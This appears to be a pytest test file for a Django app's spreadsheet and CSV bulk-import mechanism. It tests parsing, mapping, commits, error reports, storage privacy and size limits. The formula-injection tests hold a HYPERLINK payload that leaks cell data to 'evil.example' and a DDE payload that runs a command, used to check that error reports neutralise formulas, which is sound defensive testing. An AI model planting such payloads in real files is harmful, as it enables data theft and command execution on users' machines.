"""The shared bulk-import mechanism, driven through a small test importer that writes
audit entries (so these tests need no other app)."""

from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from contextlib import contextmanager
from datetime import date, datetime
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError
from django.test import TestCase, override_settings
from django.utils import translation
from django_tasks_db.models import DBTaskResult
from openpyxl import Workbook, load_workbook

from jifen.core import errors, imports
from jifen.core.imports import (
    Importer,
    ImportField,
    cancel_import_job,
    cell_date,
    cell_text,
    create_import_job,
    error_report,
    read_rows,
    readers,
    register,
    remap_import_job,
    run_import_check,
    run_import_commit,
    start_import_commit,
)
from jifen.core.imports import importer as checking
from jifen.core.models import AuditEntry, ImportJob

pytestmark = pytest.mark.django_db


@register
class NoteImporter(Importer):
    """Each row becomes an audit entry "test.note"; code BOOM makes the database fail."""

    kind = "test.notes"
    verbose_name = "notes"
    fields = (
        ImportField("code", "Code", ("编码", "note code"), required=True),
        ImportField("text", "Text", ("内容",)),
        ImportField("day", "Day", ("日期",)),
    )
    example_row = {"code": "A1", "text": "hello", "day": "2024-03-01"}

    def parse(self, values, context):
        code = cell_text(values.get("code"))
        problems = []
        if not code:
            problems.append(("code", "A code is required."))
        day = None
        try:
            day = cell_date(values.get("day"))
        except ValueError:
            problems.append(("day", "Not a date."))
        return {"code": code, "text": cell_text(values.get("text")), "day": day}, problems

    def check_batch(self, results, context):
        seen: dict[str, int] = {}
        for result in results:
            code = result.item["code"]
            if code in seen:
                result.add("code", f"Duplicate of row {seen[code]}.")
            seen.setdefault(code, result.row)

    def commit(self, items, *, actor, job, progress):
        for item in items:
            if item["code"] == "BOOM":
                raise DatabaseError("disk on fire")
            AuditEntry.objects.create(action="test.note", object_id=item["code"],
                                      object_repr=item["text"])
        return {"created": len(items)}


IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@contextmanager
def worker():
    """What is enqueued on commit runs at the end of the block, as `jifen worker` would."""
    with override_settings(TASKS=IMMEDIATE), TestCase.captureOnCommitCallbacks(execute=True):
        yield


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture(autouse=True)
def _english():
    """These tests read the mechanism's English messages; the UI default is Chinese."""
    with translation.override("en"):
        yield


def xlsx_file(rows: list[list], name: str = "notes.xlsx") -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def csv_file(rows: list[list], encoding: str = "utf-8", bom: bool = False,
             delimiter: str = ",", name: str = "notes.csv") -> SimpleUploadedFile:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    data = buffer.getvalue().encode(encoding)
    return SimpleUploadedFile(name, (codecs.BOM_UTF8 if bom else b"") + data)


def notes() -> list[AuditEntry]:
    return list(AuditEntry.objects.filter(action="test.note").order_by("object_id"))


def upload(file: SimpleUploadedFile, importer: Importer | None = None) -> ImportJob:
    """Upload, then let the worker read and check the file."""
    with worker():
        job = create_import_job(importer=importer or NoteImporter(), upload=file, actor=None)
    job.refresh_from_db()
    return job


def remap(job: ImportJob, mapping: dict) -> ImportJob:
    with worker():
        job = remap_import_job(job=job, mapping=mapping, actor=None)
    job.refresh_from_db()
    return job


def commit(job: ImportJob, mode: str = "all") -> ImportJob:
    with worker():
        job = start_import_commit(job=job, mode=mode, actor=None)
    job.refresh_from_db()
    return job


# --- reading --------------------------------------------------------------------------


def test_errors_carry_the_row_number_excel_shows_even_below_a_title_and_blank_rows():
    job = upload(xlsx_file([
        ["员工笔记导入"],            # row 1: a title
        [],                          # row 2: blank
        ["编码", "内容", "日期"],     # row 3: the header
        ["A1", "one", "2024-03-01"],  # row 4
        [],                          # row 5: blank, still counted by Excel
        ["", "no code", ""],          # row 6
        ["A3", "bad day", "soon"],    # row 7
    ]))
    assert job.header_row == 3
    assert job.total_rows == 3
    assert (job.valid_rows, job.error_count) == (1, 2)
    assert job.error_rows == [
        {"row": 6, "field": "code", "message": "A code is required."},
        {"row": 7, "field": "day", "message": "Not a date."},
    ]
    assert notes() == []


@pytest.mark.parametrize(("encoding", "bom"), [("utf-8", False), ("utf-8", True),
                                               ("gb18030", False)])
def test_csv_is_read_in_utf8_with_or_without_bom_and_in_gb18030(encoding, bom):
    job = upload(csv_file([["编码", "内容"], ["A1", "张伟的笔记"], ["A2", "李娜"]],
                          encoding=encoding, bom=bom))
    assert job.headers == ["编码", "内容"]
    assert job.mapping["code"] == 0 and job.mapping["text"] == 1
    assert job.valid_rows == 2

    commit(job)

    assert [n.object_repr for n in notes()] == ["张伟的笔记", "李娜"]


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_csv_with_semicolons_or_tabs_is_split_into_columns(delimiter):
    job = upload(csv_file([["code", "text"], ["A1", "x"]], delimiter=delimiter))
    assert job.headers == ["code", "text"]
    assert job.valid_rows == 1


def test_headers_match_loosely_in_either_language():
    job = upload(xlsx_file([["Note Code*", "内容（可选）", " DAY "], ["A1", "x", "2024-03-01"]]))
    assert job.mapping == {"code": 0, "text": 1, "day": 2}


def test_numbers_and_dates_from_excel_become_the_text_and_dates_people_typed():
    assert cell_text(1001.0) == "1001"
    assert cell_text(13800138000) == "13800138000"
    assert cell_text(datetime(2024, 3, 1)) == "2024-03-01"
    for value in (datetime(2024, 3, 1), date(2024, 3, 1), "2024-03-01", "2024/3/1",
                  "2024.3.1", "2024年3月1日", "20240301", "2024-03-01 00:00:00", 45352):
        assert cell_date(value) == date(2024, 3, 1), value
    assert cell_date("") is None
    with pytest.raises(ValueError):
        cell_date("next week")


def test_an_unreadable_file_is_refused_with_a_reason():
    # What the file's name and zip directory tell is refused in the upload request itself.
    with pytest.raises(errors.ValidationError, match="Excel"):
        upload(SimpleUploadedFile("notes.xlsx", b"not a zip"))
    with pytest.raises(errors.ValidationError, match=r"\.xls"):
        upload(SimpleUploadedFile("notes.xls", b"\xd0\xcf\x11\xe0"))
    assert ImportJob.objects.count() == 0
    # What only reading tells, the worker says on the job.
    job = upload(csv_file([["code", "text"]]))
    assert job.status == ImportJob.Status.FAILED
    assert "no data" in job.failure_reason
    assert notes() == []


# --- mapping --------------------------------------------------------------------------


def test_an_unmatched_required_column_blocks_the_commit_until_it_is_mapped():
    job = upload(xlsx_file([["编号", "内容"], ["A1", "x"], ["A2", "y"]]))
    assert job.mapping["code"] is None
    with pytest.raises(errors.ValidationError):
        start_import_commit(job=job, mode="all", actor=None)

    job = remap(job, {"code": 0, "text": 1})

    assert (job.valid_rows, job.error_count) == (2, 0)
    assert job.preview_rows == [{"row": 2, "values": ["A1", "x"]},
                                {"row": 3, "values": ["A2", "y"]}]


# --- committing -----------------------------------------------------------------------


def test_import_all_is_refused_while_any_row_has_an_error():
    job = upload(xlsx_file([["编码", "内容"], ["A1", "x"], ["A1", "again"]]))
    assert job.error_rows == [{"row": 3, "field": "code", "message": "Duplicate of row 2."}]

    with pytest.raises(errors.Conflict) as refused:
        start_import_commit(job=job, mode="all", actor=None)

    assert refused.value.code == "import_has_errors"
    assert notes() == []
    job.refresh_from_db()
    assert job.status == ImportJob.Status.PREVIEWED


def test_import_valid_only_writes_just_the_valid_rows_and_reports_the_counts():
    job = upload(xlsx_file([["编码", "内容"], ["A1", "x"], ["", "no code"], ["A3", "z"]]))

    job = commit(job, "valid_only")

    assert job.status == ImportJob.Status.DONE
    assert job.result == {"created": 2, "imported": 2, "skipped": 1}
    assert job.processed_rows == job.total_rows == 3
    assert job.progress_percent == 100
    assert [n.object_id for n in notes()] == ["A1", "A3"]


def test_a_database_error_rolls_back_every_row_and_the_job_says_why():
    job = upload(xlsx_file([["编码"], ["A1"], ["A2"], ["BOOM"], ["A4"]]))

    job = commit(job)

    assert job.status == ImportJob.Status.FAILED
    assert "disk on fire" in job.failure_reason
    assert notes() == []


def test_a_second_commit_of_the_same_job_is_refused():
    job = upload(xlsx_file([["编码"], ["A1"]]))
    commit(job)

    with pytest.raises(errors.Conflict):
        start_import_commit(job=job, mode="all", actor=None)
    assert len(notes()) == 1


def test_the_commit_runs_in_the_worker_and_reports_progress(
        django_capture_on_commit_callbacks):
    job = upload(xlsx_file([["编码"], *[[f"A{i}"] for i in range(1200)]]))

    with django_capture_on_commit_callbacks(execute=True):
        job = start_import_commit(job=job, mode="all", actor=None)

    assert job.status == ImportJob.Status.COMMITTING
    assert job.progress_percent == 0
    assert notes() == []
    queued = DBTaskResult.objects.get()
    assert queued.args_kwargs["args"] == [job.pk]

    job = run_import_commit(job_id=job.pk)  # what the worker runs

    assert job.status == ImportJob.Status.DONE
    assert len(notes()) == 1200
    # Running the task again (a retry) changes nothing.
    assert run_import_commit(job_id=job.pk).status == ImportJob.Status.DONE
    assert len(notes()) == 1200


def test_cancelling_drops_the_stored_file_and_imports_nothing(django_capture_on_commit_callbacks):
    job = upload(xlsx_file([["编码"], ["A1"]]))
    storage, name = job.file.storage, job.file.name
    assert storage.exists(name)

    with django_capture_on_commit_callbacks(execute=True):
        cancel_import_job(job=job, actor=None)

    assert not storage.exists(name)
    with pytest.raises(errors.Conflict):
        start_import_commit(job=job, mode="all", actor=None)
    assert notes() == []


# --- reports --------------------------------------------------------------------------


def test_the_error_report_holds_the_bad_rows_with_their_original_columns_and_reason():
    job = upload(xlsx_file([["编码", "内容", "日期"], ["A1", "fine", "2024-03-01"],
                            ["", "no code", "2024-03-02"], ["A3", "bad day", "someday"]]))

    content, content_type, filename = error_report(job, "xlsx")
    assert content_type.startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]

    assert filename == "notes-errors.xlsx"
    assert rows[0] == ["编码", "内容", "日期", "Row", "Error"]
    assert rows[1][:2] == [None, "no code"]
    assert rows[1][3:] == [3, "Code: A code is required."]
    assert rows[2][:3] == ["A3", "bad day", "someday"]
    assert rows[2][3:] == [4, "Day: Not a date."]
    assert len(rows) == 3

    content, content_type, filename = error_report(job, "csv")
    assert (content_type, filename) == ("text/csv; charset=utf-8", "notes-errors.csv")
    assert content.startswith(codecs.BOM_UTF8)
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert lines == [["编码", "内容", "日期", "Row", "Error"],
                     ["", "no code", "2024-03-02", "3", "Code: A code is required."],
                     ["A3", "bad day", "someday", "4", "Day: Not a date."]]


def test_the_fixed_error_report_can_be_uploaded_again():
    job = upload(xlsx_file([["编码", "内容"], ["A1", "x"], ["", "no code"]]))
    content, _ctype, _name = error_report(job, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    sheet["A2"] = "A2"
    buffer = io.BytesIO()
    sheet.parent.save(buffer)

    fixed = upload(SimpleUploadedFile("fixed.xlsx", buffer.getvalue()))

    assert (fixed.valid_rows, fixed.error_count) == (1, 0)


def test_rows_are_numbered_from_the_top_of_the_sheet_in_read_only_mode():
    workbook = Workbook()
    sheet = workbook.active
    sheet["B4"] = "编码"
    sheet["B5"] = "A1"
    buffer = io.BytesIO()
    workbook.save(buffer)

    rows = read_rows(buffer.getvalue(), "x.xlsx")

    assert [(number, cells[1]) for number, cells in rows] == [(4, "编码"), (5, "A1")]


def test_a_column_without_a_header_can_still_be_chosen():
    job = upload(xlsx_file([["编码", "内容", None, None], ["A1", "x", "2024-03-01", None],
                            ["A2", "y", "soon"]]))
    assert job.headers == ["编码", "内容", ""]
    assert job.mapping["day"] is None

    job = remap(job, {"code": 0, "text": 1, "day": 2})

    assert job.error_rows == [{"row": 3, "field": "day", "message": "Not a date."}]


# --- old uploads are deleted after the retention period ---------------------------------------

def test_old_uploads_are_deleted_and_their_jobs_kept(db, hr_admin, client):
    from datetime import timedelta

    from django.contrib.messages import get_messages
    from django.urls import reverse
    from django.utils import timezone

    from jifen.core.imports import purge_import_files
    from jifen.people.imports import EmployeeImporter

    sheet = [["工号", "姓名", "部门编码"], ["P1", "甲", "NOPE"]]  # one bad row
    old_done = upload(csv_file(sheet), importer=EmployeeImporter())
    ImportJob.objects.filter(pk=old_done.pk).update(status=ImportJob.Status.DONE)
    old_preview, recent = upload(csv_file([["code"], ["A1"]])), upload(
        csv_file([["code"], ["A2"]]))
    storage, names = old_done.file.storage, [old_done.file.name, old_preview.file.name,
                                             *old_done.reports.values()]
    assert sorted(old_done.reports) == ["csv", "xlsx"]
    assert all(storage.exists(name) for name in names)
    month_ago = timezone.now() - timedelta(days=31)
    ImportJob.objects.filter(pk__in=[old_done.pk, old_preview.pk]).update(updated_at=month_ago)

    assert purge_import_files() == 2

    for job in (old_done, old_preview, recent):
        job.refresh_from_db()
    assert not old_done.file and old_done.status == "done" and old_done.error_count == 1
    assert not old_preview.file and old_preview.status == "cancelled"
    assert recent.file and recent.status == "previewed"
    assert not any(storage.exists(name) for name in names)
    # The error report of a purged job explains itself instead of failing.
    client.force_login(hr_admin.user)
    response = client.get(reverse("people_import:errors", args=[old_done.pk, "csv"]))
    assert response.status_code == 302
    [note] = list(get_messages(response.wsgi_request))
    # In the site's language (the page's, not the test's): the warning names the period.
    assert note.level_tag == "warning" and "30" in note.message
    assert purge_import_files() == 0  # nothing left to delete


# --- where files go, and files that unpack to too much --------------------------------


def test_an_uploaded_sheet_is_kept_privately_under_a_name_nobody_can_guess(settings, client):
    """Imports hold employees' details and unissued redemption codes: the file must not be
    reachable under /media/, where logos and item images are served to anyone."""
    job = upload(csv_file([["编码", "内容", "日期"], ["A1", "SECRET-CODE-1234", "2024-03-01"]],
                          name="codes.csv"))
    name = job.file.name
    assert "codes" not in name and name.endswith(".csv")
    assert job.original_name == "codes.csv"
    assert b"SECRET-CODE-1234" in job.file.storage.open(name).read()
    assert not (Path(settings.MEDIA_ROOT) / name).exists()
    assert client.get(f"/media/{name}").status_code == 404


def test_the_upgrade_moves_earlier_sheets_out_of_the_public_folder(settings, tmp_path):
    import importlib

    from django.apps import apps
    from django.core.files.base import ContentFile
    from django.core.files.storage import FileSystemStorage

    migration = importlib.import_module("jifen.core.migrations.0006_import_files_private")
    settings.MEDIA_ROOT = tmp_path / "media"
    private = FileSystemStorage(location=tmp_path / "private")
    public = FileSystemStorage(location=tmp_path / "media")
    public.save("imports/2026/11/codes.csv", ContentFile(b"SECRET-CODE-1234"))
    ImportJob.objects.create(kind="test.notes", original_name="codes.csv",
                             file="imports/2026/11/codes.csv")
    settings.STORAGES = {**settings.STORAGES,
                         "imports": {"BACKEND": "django.core.files.storage.FileSystemStorage",
                                     "OPTIONS": {"location": tmp_path / "private"}}}
    migration.move_to_private_storage(apps, None)
    assert not public.exists("imports/2026/11/codes.csv")
    assert private.open("imports/2026/11/codes.csv").read() == b"SECRET-CODE-1234"


def _with_dimension(content: bytes, ref: str | None) -> bytes:
    """The workbook with its sheet's declared size (<dimension ref=…>) set to ``ref``, or
    without one when ``ref`` is None (some programs write none, or a wrong one)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename.startswith("xl/worksheets/"):
                text = re.sub(r"<dimension [^>]*/>", "", data.decode())
                if ref:
                    text = text.replace("<sheetViews>", f'<dimension ref="{ref}"/><sheetViews>')
                data = text.encode()
            target.writestr(entry, data)
    return out.getvalue()


def _parses(monkeypatch) -> list:
    calls: list = []
    real = NoteImporter.parse
    monkeypatch.setattr(NoteImporter, "parse",
                        lambda self, values, context: calls.append(1) or real(self, values,
                                                                             context))
    return calls


def test_a_sheet_declaring_more_rows_or_cells_than_allowed_is_refused_before_a_row_is_read(
        monkeypatch):
    monkeypatch.setattr(readers, "MAX_ROWS", 50)
    monkeypatch.setattr(readers, "MAX_CELLS", 120)
    parsed = _parses(monkeypatch)
    small = xlsx_file([["编码", "内容", "日期"], ["A1", "x", "2024-03-01"]]).read()

    for ref, limit in (("A1:C60", "50 rows"), ("A1:Z45", "120 cells")):
        job = upload(SimpleUploadedFile("notes.xlsx", _with_dimension(small, ref)))

        assert job.status == ImportJob.Status.FAILED, ref
        assert f"more than {limit}" in job.failure_reason
    assert parsed == []
    assert notes() == []


def test_a_sheet_with_more_rows_than_allowed_stops_when_the_reading_gets_there(monkeypatch):
    monkeypatch.setattr(readers, "MAX_ROWS", 50)
    rows = [["编码", "内容", "日期"]] + [[f"A{n}", "x", "2024-03-01"] for n in range(60)]
    workbook = _with_dimension(xlsx_file(rows).read(), None)  # it does not say its size
    for file in (SimpleUploadedFile("notes.xlsx", workbook), csv_file(rows)):
        job = upload(file)
        assert job.status == ImportJob.Status.FAILED
        assert "more than 50 rows" in job.failure_reason
        assert job.valid_rows == job.error_count == 0
    with pytest.raises(errors.ValidationError) as refused:
        read_rows(workbook, "notes.xlsx")
    assert refused.value.code == "file_too_large"
    assert notes() == []


def test_a_sheet_with_more_cells_than_allowed_stops_when_the_reading_gets_there(monkeypatch):
    monkeypatch.setattr(readers, "MAX_CELLS", 100)
    rows = [["编码", "内容", "日期"]] + [[f"A{n}", "x", "2024-03-01"] for n in range(40)]
    workbook = _with_dimension(xlsx_file(rows).read(), "A1:C2")  # it says less than it has
    for file in (SimpleUploadedFile("notes.xlsx", workbook), csv_file(rows)):
        job = upload(file)
        assert job.status == ImportJob.Status.FAILED
        assert "more than 100 cells" in job.failure_reason
    assert notes() == []


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(monkeypatch):
    monkeypatch.setattr(readers, "MAX_UNPACKED_BYTES", 4096)
    rows = [["编码", "内容", "日期"]] + [[f"A{n}", "x" * 40, "2024-03-01"] for n in range(200)]
    with pytest.raises(errors.ValidationError) as refused:
        upload(xlsx_file(rows))
    assert refused.value.code == "file_too_large"
    assert not ImportJob.objects.exists()


def test_a_workbook_with_a_huge_table_of_texts_is_refused_before_it_is_read(monkeypatch):
    """openpyxl keeps the whole shared-strings table in memory."""
    monkeypatch.setattr(readers, "MAX_SHARED_STRINGS_BYTES", 200)
    workbook = io.BytesIO(xlsx_file([["编码", "内容", "日期"]]).read())
    with zipfile.ZipFile(workbook, "a") as parts:  # openpyxl itself writes inline strings
        parts.writestr("xl/sharedStrings.xml", "<sst>" + "<si><t>text</t></si>" * 50 + "</sst>")
    with pytest.raises(errors.ValidationError) as refused:
        upload(SimpleUploadedFile("notes.xlsx", workbook.getvalue()))
    assert refused.value.code == "file_too_large"


def test_a_damaged_workbook_is_unreadable_not_a_crash():
    good = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(["编码", "内容", "日期"])
    workbook.save(good)
    damaged = io.BytesIO()
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(damaged, "w") as target:
        for entry in source.infolist():
            content = source.read(entry.filename)
            if entry.filename.startswith("xl/worksheets/"):
                content = content[: len(content) // 2]  # cut off mid-XML
            target.writestr(entry, content)

    job = upload(SimpleUploadedFile("notes.xlsx", damaged.getvalue()))

    assert job.status == ImportJob.Status.FAILED
    assert job.failure_reason == "This file could not be read as an Excel workbook."


def test_cells_far_to_the_right_are_not_read():
    """A row holding A1 and XFD1 made openpyxl build 16,384 cells; a file of such rows
    took minutes and gigabytes."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["编码", "内容", "日期"])
    sheet.append(["A1", "one", "2024-03-01"])
    sheet.cell(row=2, column=16384, value="far away")
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = imports.read_rows(buffer.getvalue(), "far.xlsx")
    assert rows == [(1, ["编码", "内容", "日期"]), (2, ["A1", "one", "2024-03-01"])]


# --- the worker reads; error reports hand no formula back (issue 10, findings 7 and 9) ----


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
FULLWIDTH = "＝HYPERLINK(\"http://evil.example\")"


def formula_sheet() -> list[list]:
    """A sheet whose header and bad rows carry formulas (row 3 and 4 have no code)."""
    return [["编码", "内容", HYPERLINK],
            ["A1", "fine", "x"],
            ["", DDE, " +SUM(A1:A9)"],
            ["", FULLWIDTH, "\u3000@SUM(A1)"]]


def text_xlsx(rows: list[list]) -> SimpleUploadedFile:
    """An xlsx whose cells are TEXT starting with "=" (as a user types '=… in Excel)."""
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile("notes.xlsx", buffer.getvalue())


@pytest.mark.parametrize("make", [text_xlsx, csv_file])
def test_the_error_reports_hand_back_no_formula_from_the_upload(make):
    job = upload(make(formula_sheet()))
    assert job.error_count == 2

    content, _type, _name = error_report(job, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert "<f>" not in parts.read("xl/worksheets/sheet1.xml").decode()
    rows = [[(c.value, c.data_type) for c in row]
            for row in load_workbook(io.BytesIO(content)).active.iter_rows()]
    assert rows[0][2] == ("'" + HYPERLINK, "s")  # the header too
    assert rows[1][1:3] == [("'" + DDE, "s"), ("' +SUM(A1:A9)", "s")]
    assert rows[2][1:3] == [("'" + FULLWIDTH, "s"), ("'\u3000@SUM(A1)", "s")]

    content, _type, _name = error_report(job, "csv")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert lines[0][2] == "'" + HYPERLINK
    assert lines[1][1] == "'" + DDE
    # cell_text trims the cell, then the quote goes on.
    assert [lines[1][2], lines[2][1], lines[2][2]] == [
        "'+SUM(A1:A9)", "'" + FULLWIDTH, "'@SUM(A1)"]


def test_a_fixed_error_report_reads_back_as_the_text_first_uploaded():
    job = upload(csv_file([["编码", "内容"], ["", "=1+2"]]))
    content, _type, _name = error_report(job, "csv")
    fixed = content.decode("utf-8-sig").replace("\r\n,", "\r\nA9,", 1)

    again = upload(SimpleUploadedFile("fixed.csv", fixed.encode()))

    assert again.error_count == 0
    commit(again)
    assert [n.object_repr for n in notes()] == ["=1+2"]  # stored as sent; exports quote it


def test_the_upload_only_stores_the_file_and_the_worker_reads_it(
        django_capture_on_commit_callbacks, monkeypatch):
    parsed = _parses(monkeypatch)
    with django_capture_on_commit_callbacks(execute=True):
        job = create_import_job(importer=NoteImporter(), actor=None,
                                upload=csv_file([["编码"], ["A1"], [""], ["A1"]]))

    assert (job.status, job.total_rows, job.headers) == (ImportJob.Status.READING, 0, [])
    assert parsed == []
    queued = DBTaskResult.objects.get()
    assert queued.task_path == "jifen.core.imports.jobs.check_import_task"
    with pytest.raises(errors.Conflict):
        start_import_commit(job=job, mode="all", actor=None)

    job = run_import_check(job_id=job.pk)  # what the worker runs

    assert job.status == ImportJob.Status.PREVIEWED
    assert (job.total_rows, job.valid_rows, job.error_count) == (2, 1, 1)
    assert len(parsed) == 2
    assert sorted(job.reports) == ["csv", "xlsx"]
    # The error report is the file the worker wrote: the download reads no sheet.
    monkeypatch.setattr(readers, "stream_rows", None)
    content, _type, name = error_report(job, "csv")
    assert name == "notes-errors.csv" and b"Duplicate of row 2." in content


@pytest.mark.parametrize("name", ["check_import_task", "commit_import_task",
                                  "rebuild_reports_task", "purge_import_files_task"])
def test_a_task_queued_under_its_path_from_before_the_package_split_still_runs(
        django_capture_on_commit_callbacks, name):
    """The queue table stores each task's dotted path; rows written before
    ``core/imports.py`` became a package name ``jifen.core.imports.<task>``."""
    with django_capture_on_commit_callbacks(execute=True):
        job = create_import_job(importer=NoteImporter(), actor=None,
                                upload=csv_file([["编码"], ["A1"]]))
    queued = DBTaskResult.objects.get()
    queued.task_path = f"jifen.core.imports.{name}"
    assert queued.task.func is getattr(imports, name).func
    if name == "check_import_task":
        queued.task.call(*queued.args_kwargs["args"], **queued.args_kwargs["kwargs"])
        job.refresh_from_db()
        assert job.status == ImportJob.Status.PREVIEWED


def test_cancelling_while_the_worker_reads_stops_it(django_capture_on_commit_callbacks,
                                                     monkeypatch):
    monkeypatch.setattr(checking, "PROGRESS_EVERY", 10)
    with django_capture_on_commit_callbacks(execute=True):
        job = create_import_job(importer=NoteImporter(), actor=None,
                                upload=csv_file([["编码"], *[[f"A{n}"] for n in range(50)]]))
    real_parse = NoteImporter.parse

    def parse_then_cancel(self, values, context):
        if values["code"] == "A5":
            cancel_import_job(job=job, actor=None)
        return real_parse(self, values, context)

    monkeypatch.setattr(NoteImporter, "parse", parse_then_cancel)

    job = run_import_check(job_id=job.pk)

    assert job.status == ImportJob.Status.CANCELLED
    assert job.processed_rows == 0 and job.reports == {}


# --- a missing error report is built by the worker, never in the download (review, finding 5) --


def _people_job_without_reports():
    """A previewed people import with one bad row whose reports are gone, as for a job from
    before the worker wrote them (or after a storage error)."""
    from jifen.people.imports import EmployeeImporter

    job = upload(csv_file([["工号", "姓名", "部门编码"], ["P1", "甲", "NOPE"]]),
                 importer=EmployeeImporter())
    assert job.status == ImportJob.Status.PREVIEWED and sorted(job.reports) == ["csv", "xlsx"]
    for name in job.reports.values():
        job.file.storage.delete(name)
    return job


def _no_reading(*args, **kwargs):
    raise AssertionError("the request read the uploaded sheet")


@pytest.mark.parametrize("forget", [True, False], ids=["no-report-recorded", "report-file-lost"])
def test_a_missing_error_report_is_built_by_the_worker_not_in_the_download(
        client, hr_admin, monkeypatch, forget):
    from django.contrib.messages import get_messages
    from django.urls import reverse

    job = _people_job_without_reports()
    if forget:
        ImportJob.objects.filter(pk=job.pk).update(reports={})
    client.force_login(hr_admin.user)
    url = reverse("people_import:errors", args=[job.pk, "csv"])
    real_stream_rows = readers.stream_rows
    monkeypatch.setattr(readers, "stream_rows", _no_reading)

    response = client.get(url)

    assert response.status_code == 302
    assert response.url == reverse("people_import:preview", args=[job.pk])
    [note] = list(get_messages(response.wsgi_request))
    assert note.level_tag == "info"
    queued = DBTaskResult.objects.get()
    assert queued.task_path == "jifen.core.imports.jobs.rebuild_reports_task"
    # The page it goes back to still works, and the report is simply not there yet.
    assert client.get(response.url).status_code == 200

    monkeypatch.setattr(readers, "stream_rows", real_stream_rows)
    imports.rebuild_import_reports(job_id=job.pk)  # what the worker runs
    monkeypatch.setattr(readers, "stream_rows", _no_reading)

    job.refresh_from_db()
    assert sorted(job.reports) == ["csv", "xlsx"]
    assert all(job.file.storage.exists(name) for name in job.reports.values())
    response = client.get(url)
    assert response.status_code == 200
    assert "NOPE" in response.content.decode("utf-8-sig")
    assert DBTaskResult.objects.count() == 1  # nothing more was enqueued


def test_an_error_report_whose_upload_is_gone_is_refused_with_a_reason(client, hr_admin,
                                                                        monkeypatch):
    from django.contrib.messages import get_messages
    from django.urls import reverse

    job = _people_job_without_reports()
    job.file.storage.delete(job.file.name)
    monkeypatch.setattr(readers, "stream_rows", _no_reading)
    client.force_login(hr_admin.user)

    response = client.get(reverse("people_import:errors", args=[job.pk, "xlsx"]))

    assert response.status_code == 302
    [note] = list(get_messages(response.wsgi_request))
    assert note.level_tag == "warning"
    assert not DBTaskResult.objects.exists()


def test_the_worker_rebuilding_a_report_leaves_a_job_with_its_reports_alone():
    job = upload(csv_file([["编码"], [""]]))
    before = dict(job.reports)

    imports.rebuild_import_reports(job_id=job.pk)

    job.refresh_from_db()
    assert job.reports == before


# --- a job whose worker is gone does not wait silently ------------------------------------


@pytest.mark.parametrize("status", ["reading", "committing"])
def test_a_job_without_progress_for_long_says_so(client, hr_admin, status):
    from datetime import timedelta

    from django.urls import reverse
    from django.utils import timezone

    from jifen.people.imports import EmployeeImporter

    with translation.override("en"):
        job = create_import_job(importer=EmployeeImporter(), actor=None,
                                upload=csv_file([["工号", "姓名", "部门编码"], ["P1", "甲", "HQ"]]))
    client.force_login(hr_admin.user)
    progress = reverse("people_import:progress", args=[job.pk])
    ImportJob.objects.filter(pk=job.pk).update(status=status)

    fresh = client.get(progress, HTTP_HX_REQUEST="true").content.decode()
    assert 'data-testid="import-stalled"' not in fresh

    ImportJob.objects.filter(pk=job.pk).update(
        updated_at=timezone.now() - imports.STALLED_AFTER - timedelta(minutes=1))
    stalled = client.get(progress, HTTP_HX_REQUEST="true").content.decode()
    assert 'data-testid="import-stalled"' in stalled
    # Reading can be cancelled from the card; a commit cannot (rows may be going in).
    assert ('data-testid="import-cancel"' in stalled) == (status == "reading")
